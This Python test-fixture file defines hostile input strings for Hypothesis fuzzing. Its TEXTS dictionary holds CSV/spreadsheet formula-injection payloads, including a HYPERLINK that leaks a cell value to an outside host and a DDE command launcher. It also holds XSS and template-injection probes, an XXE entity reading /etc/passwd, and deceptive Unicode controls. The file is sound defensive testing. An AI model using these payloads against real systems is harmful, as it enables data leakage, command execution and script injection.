"""Texts that somebody might send to see what happens."""

from __future__ import annotations

from hypothesis import strategies as st

#: Each with what it is.
TEXTS = {
    "a formula": '=HYPERLINK("http://example.org/?" & A1, "click")',
    "a command to Excel": "=cmd|' /C calc'!A0",
    "a plus first": "+1",
    "a minus first": "-1+2",
    "an at first": "@SUM(1)",
    "a tab first": "\t=1+1",
    "a carriage return first": "\r=1+1",
    "a line feed first": "\n=1+1",
    "a script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "an end of a text area": "</textarea></title></style><script>alert(1)</script>",
    "a template": "{{ config }} {% for x in y %} ${7*7}",
    "an end of CDATA": "]]>&lt;b&gt;&#0;&amp;",
    "an entity": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "an escape of Excel's": "_x0000_ _x0041_ _x005F_x0000_",
    "a right-to-left override": "she said \u202eno\u202c way",
    "an override left open": "\u202e\u202eexe.gpj",
    "isolates left open": "\u2066\u2067\u2068 open",
    "an embedding left open": "\u202bopen \u202aagain",
    "null bytes": "a\0b\0",
    "controls": "\x01\x02\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\x9f",
    "lone surrogates": "half \ud83d a \udc00 smile",
    "what is no character": "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff end",
    "what nobody sees": "a\u200b\u200c\u200d\u2060\ufeff\u00adb",
    "letters as tags": "hi\U000e0073\U000e0065\U000e0063\U000e0072\U000e0065\U000e0074",
    "heaped accents": "Z" + "\u0300\u0301\u0302\u0303" * 50,
    "line ends of all kinds": "a\r\nb\rc\nd\u2028e\u2029f\x0bg\x0ch",
    "a long word": "a" * 1_900,
    "emojis": "👩🏽\u200d🚒🏳️\u200d🌈👨\u200d👩\u200d👧\u200d👦🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "Persian": "می\u200cخواهم با برادرم باشم",
    "markup of a spreadsheet": "<r><t>x</t></r></si><si><t>y</t></si><r></r>",
    "a sheet's name": "'[a]:*?/\\ History",
    "quotation marks": "\"'`“”«»",
    "percent signs": "%s %(x)s %n {0} \\u0041",
}
#: More than a form takes, and more than a cell of a spreadsheet does.
MANY_EMOJIS = "😀" * 100_000

#: Any text at all, with all that is hostile among it.
texts = st.one_of(
    st.sampled_from(sorted(TEXTS.values())),
    st.text(st.characters(), max_size=60),
    st.lists(st.sampled_from(sorted(TEXTS.values())), min_size=2, max_size=3).map("".join),
)
